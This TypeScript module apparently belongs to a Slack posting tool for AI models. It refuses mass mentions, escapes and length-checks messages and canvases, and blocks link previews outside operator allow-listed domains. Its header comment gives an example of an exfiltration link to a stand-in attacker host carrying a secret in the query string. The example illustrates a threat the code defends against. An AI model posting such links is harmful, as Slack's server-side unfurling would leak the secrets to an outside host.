/**
 * @module
 * Everything a posted message goes through before it reaches chat.postMessage or
 * chat.scheduleMessage: mass mentions refused unless the operator allows them, the text converted
 * and escaped ({@link toSlackText}), its length checked, and link unfurling decided. Unfurling is
 * off unless every link is on a domain the operator allow-listed: Slack's unfurler fetches URLs
 * server-side, so a posted `https://attacker.example/?d=<secret>` would leak without a click.
 */
import { ToolError } from '@plugboard/protocol';
import { z } from 'zod';
import type { SlackConfig } from './config.js';
import {
  FORMATS,
  linkedHosts,
  massMentions,
  mayUnfurl,
  toSlackText,
  type Format,
} from './mrkdwn.js';

/** Most characters a model may post in one message (Slack truncates past 40,000). */
export const MAX_MESSAGE_CHARS = 12_000;
const SLACK_MAX_CHARS = 40_000;

export const textField = z
  .string()
  .min(1)
  .max(MAX_MESSAGE_CHARS)
  .describe(
    `Message text (at most ${MAX_MESSAGE_CHARS} characters), Markdown by default. Mentions are shown literally unless the operator allows them.`,
  );

export const formatField = z
  .enum(FORMATS)
  .optional()
  .describe(
    'How text is read: "markdown" (default; converted to Slack formatting), "mrkdwn" (Slack formatting as written), or "plain" (no formatting)',
  );

/** The message arguments every posting method gets. */
export interface OutgoingMessage {
  readonly text: string;
  readonly mrkdwn: boolean;
  readonly unfurl_links: boolean;
  readonly unfurl_media: boolean;
  readonly link_names: false;
}

export function composeMessage(
  raw: string,
  format: Format | undefined,
  config: Pick<SlackConfig, 'allowMassMentions' | 'allowUserMentions' | 'unfurlDomains'>,
): OutgoingMessage {
  if (raw.trim() === '') throw new ToolError('text is empty; write the message to send.');
  refuseMassMentions(massMentions(raw), 'message', config);
  const chosen = format ?? 'markdown';
  const text = toSlackText(raw, chosen, config);
  if (text.length > SLACK_MAX_CHARS)
    throw new ToolError(
      `The message is ${text.length} characters once escaped for Slack, over its ${SLACK_MAX_CHARS} limit; split it into several.`,
    );
  const unfurl = mayUnfurl(text, config.unfurlDomains);
  return {
    text,
    mrkdwn: chosen !== 'plain',
    unfurl_links: unfurl,
    unfurl_media: unfurl,
    link_names: false,
  };
}

/** Refuses mass mentions (`@channel`, `<!subteam^…>` …) found in `what` unless the operator allows them. */
function refuseMassMentions(
  mass: readonly string[],
  what: string,
  config: Pick<SlackConfig, 'allowMassMentions'>,
): void {
  if (config.allowMassMentions || mass.length === 0) return;
  throw new ToolError(
    `The ${what} contains ${mass.slice(0, 5).join(', ')}, which notifies everyone in the conversation; this server does not send mass mentions (the operator can allow them with --allow-mass-mentions). Rephrase without them.`,
  );
}

/**
 * Refuses text with links Slack would preview, unless every one is on `--unfurl-domains`: for
 * `surface`s Slack cannot be told not to preview links in (an edited message, a canvas).
 */
export function refuseUnallowedLinks(
  text: string,
  unfurlDomains: readonly string[],
  surface: string,
  advice: string,
): void {
  if (mayUnfurl(text, unfurlDomains)) return;
  const hosts = linkedHosts(text);
  if (hosts.length > 0)
    throw new ToolError(
      `The text links to ${hosts.slice(0, 5).join(', ')}. Slack cannot be told not to preview links in ${surface}, so it may link only to domains the operator allows (--unfurl-domains). ${advice}`,
    );
}

/** Most characters of Markdown one canvas call may write (Slack takes up to a million). */
export const MAX_CANVAS_CHARS = 100_000;

export const canvasMarkdownField = z
  .string()
  .min(1)
  .max(MAX_CANVAS_CHARS)
  .describe(
    `Canvas content as Markdown (at most ${MAX_CANVAS_CHARS} characters): headings up to ###, lists, checklists, tables, code, quotes, links. Mentions are shown literally unless the operator allows them.`,
  );

/** A mention as canvas Markdown writes it: `![](@U…)`, `![](#C…)`, `![](!here)`, or `<@U…>`. */
const CANVAS_MENTION =
  /!\[[^\]\n]{0,100}\]\(\s*([@#!][^()\s]{1,40})\s*\)|<(@[UW][A-Z0-9]{2,20})(?:\|[^<>\n]{0,100})?>/g;

/** Code spans and blocks: Slack neither links nor mentions inside them. */
const CODE = /```[\s\S]*?(?:```|$)|`[^`\n]+`/g;

/**
 * Canvas Markdown as the model wrote it, under the rules of posting: mass mentions refused unless
 * allowed; people's mentions shown literally (as code) unless `--allow-user-mentions`; links, bare
 * URLs and domain-shaped words outside code only to `--unfurl-domains`, because a canvas has no
 * switch that keeps Slack from fetching and previewing them.
 */
export function composeCanvasMarkdown(
  raw: string,
  config: Pick<SlackConfig, 'allowMassMentions' | 'allowUserMentions' | 'unfurlDomains'>,
): string {
  if (raw.trim() === '') throw new ToolError('markdown is empty; write the canvas content.');
  const mentions = [...raw.matchAll(CANVAS_MENTION)].map((match) => match[1] ?? match[2]!);
  const mass = [
    ...massMentions(raw),
    ...mentions.filter((target) => target.startsWith('!')).map((target) => `![](${target})`),
  ];
  refuseMassMentions([...new Set(mass)], 'canvas text', config);
  const markdown = config.allowUserMentions
    ? raw
    : raw.replace(CANVAS_MENTION, (whole, embed?: string, bracket?: string) =>
        (embed ?? bracket ?? '').startsWith('@') ? `\`${whole}\`` : whole,
      );
  refuseUnallowedLinks(
    markdown.replace(CODE, ' ').replace(CANVAS_MENTION, ' '),
    config.unfurlDomains,
    'a canvas',
    'Write it without them, or put file names and code in backticks.',
  );
  return markdown;
}
